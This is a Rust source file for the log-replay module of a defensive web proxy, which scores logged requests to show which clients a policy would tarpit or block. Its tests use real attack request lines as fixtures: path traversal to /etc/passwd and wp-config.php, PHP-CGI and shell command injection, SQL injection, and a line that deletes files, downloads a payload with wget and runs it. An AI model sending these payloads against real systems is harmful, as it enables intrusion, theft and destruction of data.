//! `rapsheet replay`: access logs through the same engine and policy as the proxy, on the
//! logs' own time, with no proxy running. It answers "what would this policy have done to
//! last week's traffic" before the policy goes live: which clients would have been tarpitted
//! or blocked, when, and for which signals.

pub mod input;
pub mod logline;

use std::collections::HashSet;
use std::fmt::Write as _;
use std::net::IpAddr;
use std::path::{Path, PathBuf};
use std::time::{Duration, UNIX_EPOCH};

use serde::Serialize;

use crate::engine::{Action, Engine, Reason, RequestFacts, Signal, Verdict};
use crate::policy::Policy;
use crate::store::StoreLimits;
use input::{InputError, LogInput};
use logline::{LineParser, LogEntry, LogFormat};

/// How many malformed lines are quoted in the report; the rest are only counted.
const MALFORMED_SHOWN: usize = 5;

/// A replay's store is sized for whole logs, not for a bounded live window.
const REPLAY_CLIENTS: u64 = 10_000_000;

/// One client the policy would have refused.
#[derive(Debug, Clone, Serialize)]
pub struct Refusal {
    /// The client key.
    pub client: IpAddr,
    /// `tarpit` or `block`.
    pub action: &'static str,
    /// When, as the log's time (RFC 3339).
    pub at: String,
    /// The score at that moment.
    pub score: u32,
    /// Its severity.
    pub severity: &'static str,
    /// The live signals and their points.
    pub signals: Vec<SignalPoints>,
    /// The client's strikes with this ban (1 for a first ban, 0 for a tarpit).
    pub strikes: u32,
    /// The ban's reference, for a block.
    pub reference: Option<String>,
    /// Why: `score` for the client's own points, or `subnet_banned`, `network_banned` or
    /// `blocklist` for a client refused for the network it is in, with no points of its own.
    pub reason: &'static str,
}

/// A signal and the points it carried.
#[derive(Debug, Clone, Serialize)]
pub struct SignalPoints {
    /// The signal's name.
    pub signal: &'static str,
    /// Its points.
    pub points: u16,
}

/// A malformed line, quoted in the report.
#[derive(Debug, Clone, Serialize)]
pub struct Malformed {
    /// The file, `-` for standard input.
    pub file: String,
    /// The 1-based line number.
    pub line: u64,
    /// What was wrong.
    pub error: String,
}

/// What a replay found.
#[derive(Debug, Default, Serialize)]
pub struct ReplayReport {
    /// Lines read.
    pub lines: u64,
    /// Lines that could not be parsed (skipped).
    pub malformed: u64,
    /// The first few malformed lines.
    pub malformed_examples: Vec<Malformed>,
    /// Distinct clients seen.
    pub clients: usize,
    /// The earliest and latest log times (RFC 3339).
    pub first: Option<String>,
    /// See `first`.
    pub last: Option<String>,
    /// Tarpits (first per client) and bans, in log order.
    pub refusals: Vec<Refusal>,
    /// Times each signal fired, by name.
    pub signal_fires: Vec<(&'static str, u64)>,
}

impl ReplayReport {
    /// Clients that would have been blocked at least once.
    pub fn blocked_clients(&self) -> usize {
        self.distinct_clients("block")
    }

    /// Clients that would have been tarpitted at least once.
    pub fn tarpitted_clients(&self) -> usize {
        self.distinct_clients("tarpit")
    }

    fn distinct_clients(&self, action: &str) -> usize {
        let clients: HashSet<IpAddr> = self
            .refusals
            .iter()
            .filter(|refusal| refusal.action == action)
            .map(|refusal| refusal.client)
            .collect();
        clients.len()
    }
}

/// Feeds log entries through an engine and collects the report.
pub struct Replay {
    engine: Engine,
    policy: Policy,
    host: Option<String>,
    clients: HashSet<IpAddr>,
    tarpitted: HashSet<IpAddr>,
    refused_by_network: HashSet<IpAddr>,
    fires: [u64; Signal::COUNT],
    time_range: Option<(u64, u64)>,
    report: ReplayReport,
}

impl Replay {
    /// A replay under `policy`; `host` stands in for the Host header logs do not carry.
    pub fn new(policy: Policy, host: Option<String>) -> Replay {
        let limits = StoreLimits {
            max_clients: REPLAY_CLIENTS,
            idle_timeout: Duration::from_secs(365 * 86_400),
        };
        Replay {
            engine: Engine::new(limits),
            policy,
            host,
            clients: HashSet::new(),
            tarpitted: HashSet::new(),
            refused_by_network: HashSet::new(),
            fires: [0; Signal::COUNT],
            time_range: None,
            report: ReplayReport::default(),
        }
    }

    /// Runs one logged request and its status through the engine.
    pub fn feed(&mut self, entry: &LogEntry) {
        self.report.lines += 1;
        self.clients.insert(self.policy.client_key(entry.client));
        let (first, last) = self.time_range.unwrap_or((entry.time_ms, entry.time_ms));
        self.time_range = Some((first.min(entry.time_ms), last.max(entry.time_ms)));

        let mut request = RequestFacts::new(entry.client, &entry.method, &entry.target);
        request.host = entry.host.as_deref().or(self.host.as_deref());
        request.user_agent = entry.user_agent.as_deref();
        request.referer = entry.referer.as_deref();
        request.malformed = is_not_http(entry);
        let now_ms = entry.time_ms;
        let outcome = self.engine.on_request(&self.policy, &request, now_ms);
        let learned =
            self.engine
                .on_response(&self.policy, &request, &outcome, entry.status, now_ms);
        self.count_fires(outcome.fired | learned.fired);

        // Tarpit starts are reported once per client below; bans each time they start.
        let decisions = outcome.decision.iter().chain(learned.decision.iter());
        for decision in decisions.filter(|decision| decision.action == Action::Block) {
            let refusal = Refusal {
                client: decision.client,
                action: "block",
                at: rfc3339(now_ms),
                score: decision.score,
                severity: decision.severity.name(),
                signals: points(&decision.signals),
                strikes: decision.strikes,
                reference: Some(decision.reference.to_string()),
                reason: Reason::Score.name(),
            };
            self.report.refusals.push(refusal);
        }
        let key = self.policy.client_key(entry.client);
        self.note_network_refusal(key, &outcome.verdict, now_ms);
        // A response can lift the score into the tarpit band; the proxy would tarpit the
        // client's next request, which a log may not have, so it counts from here.
        let crossed_on_response = learned.fired != 0
            && outcome.verdict.action == Action::Allow
            && self.policy.tarpit_at.is_some_and(|at| {
                let score = self.score(key, now_ms);
                score >= at && score < self.policy.block_at
            });
        let tarpitted = outcome.verdict.action == Action::Tarpit || crossed_on_response;
        if tarpitted && self.tarpitted.insert(key) {
            let signals = self
                .engine
                .store()
                .client(key)
                .map(|record| record.live_signals(&self.policy, now_ms))
                .unwrap_or_default();
            let score = self.score(key, now_ms);
            self.report.refusals.push(Refusal {
                client: key,
                action: "tarpit",
                at: rfc3339(now_ms),
                score,
                severity: self.policy.severity.of(score).name(),
                signals: points(&signals),
                strikes: 0,
                reference: None,
                reason: Reason::Score.name(),
            });
        }
    }

    /// Reports, once, a client refused for the network it is in (a banned subnet, an
    /// operator's network ban, the blocklist) rather than for points of its own: the proxy
    /// would answer it 403 all the same.
    fn note_network_refusal(&mut self, key: IpAddr, verdict: &Verdict, now_ms: u64) {
        let by_network = matches!(
            verdict.reason,
            Reason::SubnetBanned | Reason::NetworkBanned | Reason::Blocklisted
        );
        if verdict.action != Action::Block || !by_network || !self.refused_by_network.insert(key) {
            return;
        }
        self.report.refusals.push(Refusal {
            client: key,
            action: "block",
            at: rfc3339(now_ms),
            score: verdict.score,
            severity: self.policy.severity.of(verdict.score).name(),
            signals: Vec::new(),
            strikes: 0,
            reference: verdict.reference.map(|reference| reference.to_string()),
            reason: verdict.reason.name(),
        });
    }

    fn score(&self, key: IpAddr, now_ms: u64) -> u32 {
        self.engine
            .store()
            .client(key)
            .map_or(0, |record| record.score(&self.policy, now_ms))
    }

    /// Counts a line that could not be parsed.
    pub fn malformed(&mut self, file: &Path, line: u64, error: String) {
        self.report.lines += 1;
        self.report.malformed += 1;
        if self.report.malformed_examples.len() < MALFORMED_SHOWN {
            self.report.malformed_examples.push(Malformed {
                file: file.display().to_string(),
                line,
                error,
            });
        }
    }

    fn count_fires(&mut self, fired: u16) {
        for signal in Signal::ALL {
            if fired & (1 << signal.index()) != 0 {
                self.fires[signal.index()] += 1;
            }
        }
    }

    /// The report.
    pub fn finish(mut self) -> ReplayReport {
        self.report.clients = self.clients.len();
        if let Some((first, last)) = self.time_range {
            self.report.first = Some(rfc3339(first));
            self.report.last = Some(rfc3339(last));
        }
        self.report.signal_fires = Signal::ALL
            .into_iter()
            .filter(|signal| self.fires[signal.index()] > 0)
            .map(|signal| (signal.name(), self.fires[signal.index()]))
            .collect();
        self.report
    }
}

/// Replays the logs at `paths` (`-` is standard input).
///
/// # Errors
///
/// Fails when an input cannot be opened or read; malformed lines are counted, not errors.
pub fn run(
    paths: &[PathBuf],
    format: LogFormat,
    policy: Policy,
    host: Option<String>,
    show_progress: bool,
) -> Result<ReplayReport, InputError> {
    let mut input = LogInput::open(paths, show_progress)?;
    let mut parser = LineParser::new(format);
    let mut replay = Replay::new(policy, host);
    let mut line = String::new();
    while input.next_line(&mut line)? {
        match parser.parse(&line) {
            Ok(entry) => replay.feed(&entry),
            Err(error) => {
                let file = input.current_path().unwrap_or(Path::new("-")).to_path_buf();
                replay.malformed(&file, input.line_number(), error.to_string());
            }
        }
    }
    input.finish();
    Ok(replay.finish())
}

/// The report as people read it.
pub fn render_text(report: &ReplayReport) -> String {
    let mut out = String::new();
    let span = match (&report.first, &report.last) {
        (Some(first), Some(last)) => format!(", {first} to {last}"),
        _ => String::new(),
    };
    let _ = writeln!(
        out,
        "{} lines ({} malformed) from {} clients{span}",
        report.lines, report.malformed, report.clients
    );
    for example in &report.malformed_examples {
        let _ = writeln!(
            out,
            "  malformed {}:{}: {}",
            example.file, example.line, example.error
        );
    }
    let _ = writeln!(
        out,
        "would tarpit {} clients and block {}",
        report.tarpitted_clients(),
        report.blocked_clients()
    );
    for refusal in &report.refusals {
        let mut signals: Vec<String> = refusal
            .signals
            .iter()
            .map(|s| format!("{}={}", s.signal, s.points))
            .collect();
        if refusal.reason != Reason::Score.name() {
            signals.push(format!("({})", refusal.reason));
        }
        let reference = refusal
            .reference
            .as_deref()
            .map(|r| format!("  ref {r}"))
            .unwrap_or_default();
        let _ = writeln!(
            out,
            "  {}  {:<6}  {:<39}  {:>4} {:<8}  {}{reference}",
            refusal.at,
            refusal.action,
            refusal.client,
            refusal.score,
            refusal.severity,
            signals.join(" ")
        );
    }
    if !report.signal_fires.is_empty() {
        let _ = writeln!(out, "signal fires:");
        for (signal, fires) in &report.signal_fires {
            let _ = writeln!(out, "  {signal:<20} {fires}");
        }
    }
    out
}

fn points(signals: &[(Signal, u16)]) -> Vec<SignalPoints> {
    signals
        .iter()
        .map(|(signal, points)| SignalPoints {
            signal: signal.name(),
            points: *points,
        })
        .collect()
}

fn rfc3339(ms: u64) -> String {
    humantime::format_rfc3339_seconds(UNIX_EPOCH + Duration::from_millis(ms)).to_string()
}

/// Whether the logged request line was not HTTP: not shaped like one (a TLS handshake or
/// junk sent to a plain-text port, which the log keeps whole as the target), or naming a
/// version that does not exist (`HTTP/1.2`). Servers log HTTP/2 and HTTP/3 requests with
/// their own versions, and `HTTP/0.9` for a request line without one, so those are HTTP.
fn is_not_http(entry: &LogEntry) -> bool {
    let shapeless = entry.method.is_empty() && !entry.target.is_empty();
    let unknown_version = entry.protocol.as_deref().is_some_and(|protocol| {
        !matches!(
            protocol,
            "HTTP/0.9" | "HTTP/1.0" | "HTTP/1.1" | "HTTP/2" | "HTTP/2.0" | "HTTP/3" | "HTTP/3.0"
        )
    });
    shapeless || unknown_version
}

#[cfg(test)]
mod tests {
    use super::*;

    fn policy() -> Policy {
        let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("conf/policy.yaml");
        Policy::load(&path).unwrap()
    }

    fn replay_text(text: &str) -> ReplayReport {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("access.log");
        std::fs::write(&path, text).unwrap();
        run(&[path], LogFormat::Auto, policy(), None, false).unwrap()
    }

    #[test]
    fn a_payload_blocks_and_malformed_lines_are_counted() {
        let report = replay_text(
            "192.0.2.1 - - [17/May/2015:10:05:14 +0000] \"GET / HTTP/1.1\" 200 10 \"-\" \"curl/8\"\n\
             this is not a log line\n\
             192.0.2.9 - - [17/May/2015:10:05:15 +0000] \"GET /?id=1'%20union%20select%201,2,3-- HTTP/1.1\" 200 10 \"-\" \"x\"\n",
        );
        assert_eq!((report.lines, report.malformed), (3, 1));
        assert_eq!(report.malformed_examples[0].line, 2);
        assert_eq!(report.blocked_clients(), 1);
        assert_eq!(report.refusals[0].client.to_string(), "192.0.2.9");
        assert_eq!(report.refusals[0].at, "2015-05-17T10:05:15Z");
        assert!(report.signal_fires.contains(&("sql_injection", 1)));
        let text = render_text(&report);
        assert!(
            text.contains("would tarpit 0 clients and block 1"),
            "{text}"
        );
    }

    /// Probes for vulnerabilities on CISA's list of those exploited in the wild, as scanners
    /// send them, each from its own client and answered as a site without the product would.
    const EXPLOIT_PROBES: &[&str] = &[
        "GET /api/index.php/v1/config/application?public=true HTTP/1.1",
        "GET /app/rest/users/id:1/tokens/RPC2 HTTP/1.1",
        "GET /hax?jsp=/app/rest/server;.jsp HTTP/1.1",
        "POST /webui/logoutconfirm.html?logon_hash=1 HTTP/1.1",
        "POST /ssl-vpn/hipreport.esp HTTP/1.1",
        "GET /moveitisapi/moveitisapi.dll?action=m2 HTTP/1.1",
        "GET /SetupWizard.aspx/anything HTTP/1.1",
        "GET /oauth/idp/.well-known/openid-configuration HTTP/1.1",
        "GET /Telerik.Web.UI.WebResource.axd?type=rau HTTP/1.1",
        "GET /index.php/.js.map HTTP/1.1",
        "GET /php/utils/createRemoteAppwebSession.php/watchTowr.js.map HTTP/1.1",
        "GET /unauth/%252e%252e/php/ztp_gate.php/PAN_help/x.css HTTP/1.1",
        "GET /owa/auth/x.js HTTP/1.1",
        "GET /api/v1/totp/user-backup-code/../../system/system-information HTTP/1.1",
        "GET /cgi-bin/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input HTTP/1.1",
        "GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>/tmp/x) HTTP/1.1",
        "GET /?unix:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA|http://example.com/ HTTP/1.1",
        "GET /wp-admin/admin-ajax.php?action=duplicator_download&file=../../wp-config.php HTTP/1.1",
        "GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession HTTP/1.1",
        "GET /vpn/../vpns/cfg/smb.conf HTTP/1.1",
        "GET /public/plugins/alertlist/../../../../../../../../etc/passwd HTTP/1.1",
        "GET /console/css/%252e%252e%252fconsole.portal HTTP/1.1",
        "GET /+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../ HTTP/1.1",
        "GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1",
        "GET /index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=1 HTTP/1.1",
        "GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/jaws;sh+/tmp/jaws HTTP/1.1",
        "GET /wls-wsat/CoordinatorPortType HTTP/1.1",
    ];

    #[test]
    fn probes_for_exploited_vulnerabilities_are_refused() {
        let log: String = EXPLOIT_PROBES
            .iter()
            .enumerate()
            .map(|(n, request)| {
                format!(
                    "192.0.2.{} - - [17/May/2015:10:05:14 +0000] \"{request}\" 404 10 \"-\" \"Mozilla/5.0\"\n",
                    n + 1
                )
            })
            .collect();
        let report = replay_text(&log);
        let refused: std::collections::BTreeSet<String> = report
            .refusals
            .iter()
            .map(|refusal| refusal.client.to_string())
            .collect();
        for (n, request) in EXPLOIT_PROBES.iter().enumerate() {
            let client = format!("192.0.2.{}", n + 1);
            assert!(refused.contains(&client), "not refused: {request}");
        }
    }

    #[test]
    fn a_product_serving_its_own_endpoints_is_left_alone() {
        // Entries marked `?`: a site running the product answers them, and its users are fine.
        let log: String = [
            "GET /Telerik.Web.UI.WebResource.axd?type=rau HTTP/1.1",
            "GET /autodiscover/autodiscover.json?Email=a@example.com&Protocol=ActiveSync HTTP/1.1",
            "GET /oauth/idp/.well-known/openid-configuration HTTP/1.1",
        ]
        .iter()
        .map(|request| {
            format!(
                "192.0.2.1 - - [17/May/2015:10:05:14 +0000] \"{request}\" 200 10 \"-\" \"Mozilla/5.0\"\n"
            )
        })
        .collect();
        let report = replay_text(&log);
        assert!(report.refusals.is_empty(), "{}", render_text(&report));
    }

    #[test]
    fn a_scanner_is_tarpitted_once_and_not_reported_as_blocked() {
        let line = |second: u32| {
            format!(
                "192.0.2.7 - - [17/May/2015:10:05:{second:02} +0000] \"GET /x HTTP/1.1\" 404 1 \"-\" \"Nikto\"\n"
            )
        };
        let report = replay_text(&(0..3).map(line).collect::<String>());
        assert_eq!(
            (report.tarpitted_clients(), report.blocked_clients()),
            (1, 0)
        );
        assert_eq!(report.refusals.len(), 1);
        assert_eq!(report.refusals[0].action, "tarpit");
    }

    #[test]
    fn request_lines_that_are_not_http_are_scored_and_real_versions_are_not() {
        let line = |client: &str, request: &str| {
            format!("{client} - - [17/May/2015:10:05:14 +0000] \"{request}\" 400 0 \"-\" \"-\"\n")
        };
        let log = [
            line("192.0.2.1", r"\x16\x03\x01\x00\xF7\x01\x00\x00\xF3\x03\x03"),
            line("192.0.2.2", "GET / HTTP/1.2"),
            line("192.0.2.3", "HELP"),
            line("192.0.2.4", "GET / HTTP/2.0"),
            line("192.0.2.5", "GET / HTTP/0.9"),
            line("192.0.2.6", "-"),
            line("192.0.2.7", "GET /index.html HTTP/1.1"),
        ]
        .concat();
        let report = replay_text(&log);
        let mut refused: Vec<String> = report
            .refusals
            .iter()
            .map(|refusal| format!("{} {}", refusal.client, refusal.action))
            .collect();
        refused.sort();
        assert_eq!(
            refused,
            ["192.0.2.1 tarpit", "192.0.2.2 tarpit", "192.0.2.3 tarpit"]
        );
        assert!(report.signal_fires.contains(&("malformed_request", 3)));
    }

    #[test]
    fn members_of_a_banned_subnet_are_reported_as_refused() {
        // Six scanners of one /24 each block on their first request; the subnet is banned
        // after the policy's ban_after, and a member with no points of its own is refused.
        let mut log = String::new();
        for host in 1..=6 {
            log.push_str(&format!(
                "198.51.100.{host} - - [17/May/2015:10:05:0{host} +0000] \"GET /?q=1%27%20union%20select%20password%20from%20users-- HTTP/1.1\" 200 1 \"-\" \"sqlmap/1.7\"\n"
            ));
        }
        log.push_str(
            "198.51.100.77 - - [17/May/2015:10:06:00 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"Mozilla/5.0\"\n",
        );
        let report = replay_text(&log);
        let quiet = report
            .refusals
            .iter()
            .find(|refusal| refusal.client.to_string() == "198.51.100.77")
            .expect("the member without points is refused");
        assert_eq!((quiet.action, quiet.reason), ("block", "subnet_banned"));
        assert!(quiet.signals.is_empty());
        assert!(render_text(&report).contains("(subnet_banned)"));
    }

    #[test]
    fn a_clean_log_refuses_nobody() {
        let report = replay_text(
            "192.0.2.1 - - [17/May/2015:10:05:14 +0000] \"GET / HTTP/1.1\" 200 10 \"-\" \"Mozilla/5.0\"\n",
        );
        assert!(report.refusals.is_empty());
        assert_eq!(report.clients, 1);
    }
}
